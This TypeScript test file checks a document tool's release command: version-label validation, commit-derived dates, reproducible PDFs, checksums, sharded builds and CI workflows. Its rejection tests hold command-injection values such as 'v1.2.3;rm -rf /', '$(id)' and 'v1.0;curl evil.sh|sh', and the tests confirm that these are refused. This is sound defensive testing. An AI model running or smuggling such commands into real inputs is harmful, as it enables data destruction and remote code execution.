/**
 * The release script (`npm run release`, i.e. `briefkit release`) as CI runs it: a version label
 * checked for unsafe characters, SOURCE_DATE_EPOCH from the released commit, every document rebuilt
 * with the version stamp, and output/release/ with uniquely named PDFs, manifest.json and a
 * SHA256SUMS that `sha256sum -c` accepts; rebuilt, the release is byte-identical, and built in
 * shards and collected it is the same release. The workflows stay thin wrappers around it.
 */
import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { PDFDocument } from 'pdf-lib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { parse as parseYaml } from 'yaml';
import type { BuildOptions, BuildResult } from '../src/build/types.js';
import { resolveSettings } from '../src/config/settings.js';
import { emptyConfig } from '../src/config/load.js';
import { release } from '../src/release/release.js';
import { checkLabel, releaseEpoch, stampText, versionLabel } from '../src/release/version.js';
import {
  fakeBrowser,
  listFiles,
  makeTempDir,
  pdfText,
  removeDir,
  repoRoot,
  runCli,
  sourceDateEpoch,
  type CliResult,
} from './helpers.js';

const git = promisify(execFile);
const sha256 = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex');
/** Keeps CI's own tag and date out of runs that must not see them. */
const neutral = { GITHUB_REF_TYPE: undefined, GITHUB_REF_NAME: undefined };

let dir: string;

beforeAll(async () => {
  dir = await makeTempDir('release');
});

afterAll(async () => {
  await removeDir(dir);
});

/** A project with two small briefs and a package.json version. */
async function project(name: string): Promise<string> {
  const root = join(dir, name);
  await mkdir(root, { recursive: true });
  await writeFile(join(root, 'package.json'), JSON.stringify({ name, version: '1.4.0' }));
  for (const id of ['harbor', 'river']) {
    const created = await runCli(
      ['new', id, '--title', `The ${id} brief`, '--date', '2026-01-01'],
      { cwd: root },
    );
    expect(created.code, created.stderr).toBe(0);
  }
  return root;
}

describe('release: version labels', () => {
  it.each(['v1.2.3', '1.2.3', 'v1.2.3-rc.1+build.5', '2026.11', 'release_7'])(
    'accepts %j',
    (label) => {
      expect(checkLabel(label, 'the tag')).toBe(label);
    },
  );

  it.each([
    ['v1.2.3;rm -rf /', '(`;`, space, `/`)'],
    ['$(id)', '(`$`, `(`, `)`)'],
    ['v1.0\n', '(control character)'],
    ['v1/../../x', '(`/`)'],
    ['-v1', 'must start with a letter or digit'],
    ['', 'is empty'],
    ['v'.repeat(65), 'is longer than 64 characters'],
  ])('rejects %j, naming the problem %s', (label, problem) => {
    expect(() => checkLabel(label, 'the tag')).toThrow(problem);
    expect(() => checkLabel(label, 'the tag')).toThrow(
      `Version label ${JSON.stringify(label)} (from the tag)`,
    );
  });

  it('takes --version, else the CI tag, else package.json (as v + version)', async () => {
    const root = join(dir, 'labels');
    await mkdir(root, { recursive: true });
    await writeFile(join(root, 'package.json'), '{"version": "2.5.0"}');
    const tag = { GITHUB_REF_TYPE: 'tag', GITHUB_REF_NAME: 'v3.0.0' };
    expect(versionLabel({ flag: 'v9', env: tag, cwd: root })).toBe('v9');
    expect(versionLabel({ env: tag, cwd: root })).toBe('v3.0.0');
    expect(
      versionLabel({ env: { GITHUB_REF_TYPE: 'branch', GITHUB_REF_NAME: 'main' }, cwd: root }),
    ).toBe('v2.5.0');
    expect(() => versionLabel({ env: {}, cwd: join(dir, 'nowhere') })).toThrow('No version label');
  });

  it('stamps the label and the UTC date', () => {
    expect(stampText('v1.2.3', sourceDateEpoch)).toBe('v1.2.3 · 2026-01-01');
  });
});

describe('release: the date comes from the commit', () => {
  it('uses SOURCE_DATE_EPOCH when set, and refuses one that is not whole seconds', async () => {
    expect(await releaseEpoch({ SOURCE_DATE_EPOCH: '1767225600' }, dir)).toEqual({
      epoch: 1767225600,
      origin: 'SOURCE_DATE_EPOCH',
    });
    await expect(releaseEpoch({ SOURCE_DATE_EPOCH: '2026-01-01' }, dir)).rejects.toThrow(
      'SOURCE_DATE_EPOCH must be whole seconds since 1970 up to 253402300799 (the year 9999), not `2026-01-01`',
    );
    // Past the year 9999 a PDF date cannot be written (it came out as `D:0NaN…`).
    await expect(releaseEpoch({ SOURCE_DATE_EPOCH: '99999999999999999999' }, dir)).rejects.toThrow(
      'not `99999999999999999999`',
    );
  });

  it('else reads the time of the last commit, and says what to do outside git', async () => {
    const root = join(dir, 'dated');
    await mkdir(root, { recursive: true });
    await expect(releaseEpoch({}, root)).rejects.toThrow(
      'Cannot date the release: this is not a git checkout with a commit',
    );
    await commitAll(root, 1754000000);
    expect(await releaseEpoch({}, root)).toEqual({ epoch: 1754000000, origin: 'the last commit' });
  });
});

/** `git init` and one commit of everything, dated `epoch` (author and committer). */
async function commitAll(root: string, epoch: number): Promise<void> {
  const env = {
    ...process.env,
    GIT_AUTHOR_NAME: 'Test',
    GIT_AUTHOR_EMAIL: 'test@example.org',
    GIT_COMMITTER_NAME: 'Test',
    GIT_COMMITTER_EMAIL: 'test@example.org',
    GIT_AUTHOR_DATE: `@${epoch} +0000`,
    GIT_COMMITTER_DATE: `@${epoch} +0000`,
  };
  if (!existsSync(join(root, '.git'))) await git('git', ['init', '-q'], { cwd: root, env });
  await writeFile(join(root, '.gitignore'), 'output/\n');
  await git('git', ['add', '-A'], { cwd: root, env });
  await git('git', ['commit', '-q', '--allow-empty', '-m', 'release'], { cwd: root, env });
}

describe('release --dry-run (real build)', () => {
  let root: string;
  let first: CliResult;
  let again: CliResult;

  beforeAll(async () => {
    root = await project('dry-run');
    const env = { ...neutral, SOURCE_DATE_EPOCH: String(sourceDateEpoch) };
    first = await runCli(['release', '--dry-run'], { cwd: root, env });
    again = await runCli(['release', '--dry-run', '--out', 'again'], { cwd: root, env });
  });

  it('lists what it would attach', () => {
    expect(first.code, first.stderr).toBe(0);
    expect(first.stderr).toContain(
      'release v1.4.0: documents dated 2026-01-01 (from SOURCE_DATE_EPOCH)',
    );
    expect(first.stderr).toContain(
      'dry run: would attach 14 file(s) from output/release/ to release v1.4.0:',
    );
    expect(first.stderr).toContain('  harbor-brief.pdf  (');
    expect(first.stderr).toMatch(
      / {2}harbor-sources\.csv {2}\(sources ledger: \d+ figure\(s\) of harbor\)/,
    );
    expect(first.stderr).toContain('  SHA256SUMS  (check with: sha256sum -c SHA256SUMS)');
  });

  it('writes the PDFs under unique names, with manifest.json and SHA256SUMS', async () => {
    expect(await listFiles(join(root, 'output', 'release'))).toEqual([
      'SHA256SUMS',
      'harbor-brief.html',
      'harbor-brief.pdf',
      'harbor-deck.pdf',
      'harbor-deck.pptx',
      'harbor-handout.pdf',
      'harbor-sources.csv',
      'manifest.json',
      'river-brief.html',
      'river-brief.pdf',
      'river-deck.pdf',
      'river-deck.pptx',
      'river-handout.pdf',
      'river-sources.csv',
    ]);
    for (const id of ['harbor', 'river'])
      for (const file of ['brief.html', 'brief.pdf', 'deck.pdf', 'deck.pptx', 'handout.pdf'])
        expect(await readFile(join(root, 'output', 'release', `${id}-${file}`))).toEqual(
          await readFile(join(root, 'output', id, file)),
        );
  });

  it('stamps the version and date in the footer of every page (but the deck’s title slide)', async () => {
    for (const kind of ['brief', 'deck', 'handout']) {
      const pages = await pdfText(
        await readFile(join(root, 'output', 'release', `harbor-${kind}.pdf`)),
      );
      expect(pages.length).toBeGreaterThan(0);
      pages.forEach((text, index) => {
        if (kind === 'deck' && index === 0) return;
        expect(text.replace(/\s+/g, ' '), `${kind} page ${index + 1}`).toContain(
          'v1.4.0 · 2026-01-01',
        );
      });
    }
  });

  it('writes SHA256SUMS in sha256sum format, and every checksum matches', async () => {
    const assets = join(root, 'output', 'release');
    const lines = (await readFile(join(assets, 'SHA256SUMS'), 'utf8')).split('\n').filter(Boolean);
    expect(lines).toHaveLength(13);
    for (const line of lines) {
      const match = /^([0-9a-f]{64}) {2}(\S+)$/.exec(line);
      expect(match, line).not.toBeNull();
      expect(sha256(await readFile(join(assets, match?.[2] ?? '')))).toBe(match?.[1]);
    }
    expect(lines.map((line) => line.slice(66))).toEqual(
      [...lines.map((line) => line.slice(66))].sort(),
    );
  });

  it('writes a manifest with the version, the date and each file', async () => {
    const manifest = JSON.parse(
      await readFile(join(root, 'output', 'release', 'manifest.json'), 'utf8'),
    ) as {
      version: string;
      sourceDateEpoch: number;
      date: string;
      files: { name: string; path: string; pages: number; sha256: string }[];
      ledgers: { name: string; brief: string; figures: number; bytes: number; sha256: string }[];
    };
    expect(manifest.version).toBe('v1.4.0');
    expect(manifest.ledgers.map((ledger) => [ledger.name, ledger.brief])).toEqual([
      ['harbor-sources.csv', 'harbor'],
      ['river-sources.csv', 'river'],
    ]);
    for (const ledger of manifest.ledgers) {
      const bytes = await readFile(join(root, 'output', 'release', ledger.name));
      expect(sha256(bytes)).toBe(ledger.sha256);
      expect(bytes.length).toBe(ledger.bytes);
    }
    expect(manifest.sourceDateEpoch).toBe(sourceDateEpoch);
    expect(manifest.date).toBe('2026-01-01');
    expect(manifest.files.map((file) => file.path)).toContain('harbor/deck.pdf');
    for (const file of manifest.files) {
      const bytes = await readFile(join(root, 'output', 'release', file.name));
      expect(sha256(bytes)).toBe(file.sha256);
      expect(file.pages).toBeGreaterThan(0);
    }
  });

  it("attaches each brief's sources ledger: what `sources --csv` prints, every stat with its printed value and source", async () => {
    const text = await readFile(join(root, 'output', 'release', 'harbor-sources.csv'), 'utf8');
    const printed = await runCli(['sources', 'harbor', '--csv'], { cwd: root });
    expect(printed.code, printed.stderr).toBe(0);
    expect(text).toBe(printed.stdout);
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    const stats = parseYaml(
      await readFile(join(root, 'content', 'harbor', 'stats.yaml'), 'utf8'),
    ) as { stats: Record<string, { source: string }>; sources: Record<string, { url: string }> };
    const statRows = rows.filter((row) => row.kind === 'stat');
    expect(statRows.map((row) => row.id)).toEqual(Object.keys(stats.stats));
    const brief = (
      await pdfText(await readFile(join(root, 'output', 'release', 'harbor-brief.pdf')))
    )
      .join(' ')
      .replace(/\s+/g, ' ');
    for (const row of statRows) {
      expect(row.brief).toBe('harbor');
      expect(row.source, row.id).toBe(stats.stats[row.id!]?.source);
      expect(row.url, row.id).toBe(stats.sources[row.source!]?.url);
      // The value as the released brief prints it, and where: file:line in the brief.
      expect(brief, row.id).toContain(row.value);
      expect(row.used).toMatch(
        /^content\/harbor\/brief\.md:\d+(; content\/harbor\/\S+:\d+( \(key figures?\))?)*$/,
      );
    }
    expect(statRows.length).toBeGreaterThan(0);
  });

  it('dates every document from SOURCE_DATE_EPOCH', async () => {
    for (const name of ['harbor-brief.pdf', 'river-deck.pdf', 'river-handout.pdf']) {
      const pdf = await PDFDocument.load(await readFile(join(root, 'output', 'release', name)), {
        updateMetadata: false,
      });
      expect(pdf.getCreationDate()?.getTime(), name).toBe(sourceDateEpoch * 1000);
      expect(pdf.getModificationDate()?.getTime(), name).toBe(sourceDateEpoch * 1000);
    }
  });

  it('is reproducible: a second release is byte-identical', async () => {
    expect(again.code, again.stderr).toBe(0);
    const names = await listFiles(join(root, 'output', 'release'));
    expect(await listFiles(join(root, 'again', 'release'))).toEqual(names);
    for (const name of names)
      expect(sha256(await readFile(join(root, 'again', 'release', name))), name).toBe(
        sha256(await readFile(join(root, 'output', 'release', name))),
      );
  });
});

describe('release: the stamp, the date and a fresh build reach the build', () => {
  it('passes the stamp in the document settings and the date as an option, not in the environment', async () => {
    const root = join(dir, 'fake-build');
    await mkdir(root, { recursive: true });
    const created = await runCli(['new', 'harbor', '--date', '2026-01-01'], { cwd: root });
    expect(created.code, created.stderr).toBe(0);
    const seen: {
      options: BuildOptions;
      epoch: string | undefined;
    }[] = [];
    const fake = async (options: BuildOptions): Promise<BuildResult> => {
      seen.push({ options, epoch: process.env.SOURCE_DATE_EPOCH });
      const bytes = Buffer.from('%PDF-1.7\n%%EOF\n');
      await mkdir(join(options.outputDir, 'harbor'), { recursive: true });
      await writeFile(join(options.outputDir, 'harbor', 'brief.pdf'), bytes);
      return {
        files: [],
        written: [
          {
            path: 'harbor/brief.pdf',
            bytes: bytes.length,
            pages: 1,
            sha256: sha256(bytes),
            key: 'k',
          },
        ],
        cached: 0,
        failures: [],
        printed: true,
      };
    };
    const before = process.env.SOURCE_DATE_EPOCH;
    const settings = resolveSettings(root, emptyConfig, {});
    const result = await release({
      cwd: root,
      contentDir: settings.contentDir,
      outputDir: settings.outputDir,
      document: settings.document,
      version: 'v2.0.0',
      dryRun: true,
      env: { SOURCE_DATE_EPOCH: String(sourceDateEpoch) },
      build: fake,
      log: () => undefined,
    });
    expect(seen).toHaveLength(1);
    expect(seen[0]?.options.document?.stamp).toBe('v2.0.0 · 2026-01-01');
    expect(seen[0]?.options.force).toBe(true);
    expect(seen[0]?.options.epoch).toBe(sourceDateEpoch);
    expect(seen[0]?.epoch).toBe(before);
    expect(process.env.SOURCE_DATE_EPOCH).toBe(before);
    expect(result.stamp).toBe('v2.0.0 · 2026-01-01');
    expect(result.attach.map((path) => path.slice(root.length + 1))).toEqual([
      'output/release/harbor-brief.pdf',
      'output/release/harbor-sources.csv',
      'output/release/manifest.json',
      'output/release/SHA256SUMS',
    ]);
  });
});

describe('release: bad input stops it before anything is built', () => {
  let root: string;
  let marker: string;
  let env: Record<string, string | undefined>;

  beforeAll(async () => {
    root = await project('bad-input');
    const browser = await fakeBrowser(root);
    marker = browser.marker;
    env = {
      ...neutral,
      PUPPETEER_EXECUTABLE_PATH: browser.path,
      CHROME_PATH: browser.path,
      SOURCE_DATE_EPOCH: String(sourceDateEpoch),
    };
  });

  it('refuses a tag with unsafe characters', async () => {
    const result = await runCli(['release', '--dry-run'], {
      cwd: root,
      env: { ...env, GITHUB_REF_TYPE: 'tag', GITHUB_REF_NAME: 'v1.0;curl evil.sh|sh' },
    });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain(
      'briefkit: Version label "v1.0;curl evil.sh|sh" (from the tag) has unsafe characters (`;`, space, `|`): use letters, digits, dots, hyphens, underscores and plus signs, such as v1.2.3',
    );
  });

  it('refuses an unsafe --version', async () => {
    const result = await runCli(['release', '--dry-run', '--version', '$(id)'], { cwd: root, env });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('Version label "$(id)" (from --version) has unsafe characters');
  });

  it('refuses uncommitted changes unless it is a dry run', async () => {
    await commitAll(root, sourceDateEpoch);
    await writeFile(join(root, 'content', 'harbor', 'brief.md'), 'changed after the commit\n');
    const result = await runCli(['release'], { cwd: root, env });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain(
      'briefkit: Uncommitted changes (content/harbor/brief.md): a release is built from a commit. Commit them, or try it with --dry-run',
    );
  });

  it('started no browser and wrote nothing', async () => {
    expect(existsSync(marker)).toBe(false);
    expect(existsSync(join(root, 'output'))).toBe(false);
  });
});

describe('release in shards, collected (real build)', () => {
  let root: string;
  const env = { ...neutral, SOURCE_DATE_EPOCH: String(sourceDateEpoch) };
  let single: string;

  beforeAll(async () => {
    root = await project('shards');
    const whole = await runCli(['release', '--dry-run', '--out', 'whole'], { cwd: root, env });
    expect(whole.code, whole.stderr).toBe(0);
    single = await readFile(join(root, 'whole', 'release', 'SHA256SUMS'), 'utf8');
  });

  it('builds each share on its own, and refuses to collect while one is missing', async () => {
    const one = await runCli(['release', '--dry-run', '--shard', '1/2'], { cwd: root, env });
    expect(one.code, one.stderr).toBe(0);
    expect(one.stderr).toContain('shard 1/2: 5 file(s) built');
    expect(existsSync(join(root, 'output', 'manifest.shard-1-of-2.json'))).toBe(true);
    const early = await runCli(['release', '--dry-run', '--collect'], { cwd: root, env });
    expect(early.code).toBe(2);
    expect(early.stderr).toContain('Shard(s) 2 of 2 are missing from');
  });

  it('collects the shares into the same release as one build', async () => {
    const two = await runCli(['release', '--dry-run', '--shard', '2/2'], { cwd: root, env });
    expect(two.code, two.stderr).toBe(0);
    const collected = await runCli(['release', '--dry-run', '--collect'], { cwd: root, env });
    expect(collected.code, collected.stderr).toBe(0);
    expect(await readFile(join(root, 'output', 'release', 'SHA256SUMS'), 'utf8')).toBe(single);
  });

  it('refuses to attach a file that changed after it was built', async () => {
    await writeFile(join(root, 'output', 'harbor', 'deck.pdf'), 'tampered');
    const collected = await runCli(['release', '--dry-run', '--collect'], { cwd: root, env });
    expect(collected.code).toBe(2);
    expect(collected.stderr).toContain(
      'harbor/deck.pdf is not the file the build wrote (its checksum differs): build again',
    );
  });
});

describe('release: the workflows stay thin', () => {
  const workflow = (name: string) =>
    parseYaml(readFileSync(join(repoRoot, '.github', 'workflows', name), 'utf8')) as {
      on: Record<string, unknown>;
      jobs: Record<
        string,
        {
          container?: string;
          strategy?: { matrix: { shard: string[] } };
          steps: { uses?: string; run?: string; with?: Record<string, unknown> }[];
        }
      >;
    };
  const scripts = (
    JSON.parse(readFileSync(join(repoRoot, 'package.json'), 'utf8')) as {
      scripts: Record<string, string>;
    }
  ).scripts;

  it('check.yml: on pull requests runs .ci/run, which installs Chromium, then npm ci, typecheck, lint, test', () => {
    const check = workflow('check.yml');
    expect(check.on).toHaveProperty('pull_request');
    const runs = Object.values(check.jobs).flatMap((job) =>
      job.steps.map((step) => step.run ?? ''),
    );
    expect(runs).toContain('.ci/run');
    const script = readFileSync(join(repoRoot, '.ci', 'run'), 'utf8');
    const order = [
      'need+=(chromium-headless-shell)',
      'npm ci',
      'npm run typecheck',
      'npm run lint',
      'npm test',
    ].map((command) => script.indexOf(command));
    expect(order.every((index) => index >= 0)).toBe(true);
    expect([...order].sort((a, b) => a - b)).toEqual(order);
    for (const name of ['typecheck', 'lint', 'check', 'test']) expect(scripts[name]).toBeDefined();
  });

  it('release.yml: on v* tags, the release script in a shard matrix, then collect and attach', () => {
    const release = workflow('release.yml');
    expect(release.on).toEqual({ push: { tags: ['v*'] } });
    const build = release.jobs.build!;
    expect(build.strategy?.matrix.shard.every((shard) => /^\d+\/\d+$/.test(shard))).toBe(true);
    expect(build.steps.map((step) => step.run)).toContain(
      'npm run release -- --shard ${{ matrix.shard }}',
    );
    const publish = release.jobs.publish!;
    expect(publish.steps.map((step) => step.run)).toContain('npm run release -- --collect');
    const attach = publish.steps.find((step) =>
      step.uses?.startsWith('softprops/action-gh-release'),
    );
    expect(attach?.with?.files).toBe('output/release/*');
    expect(scripts.release).toContain('dist/bin/briefkit.js release');
  });
});
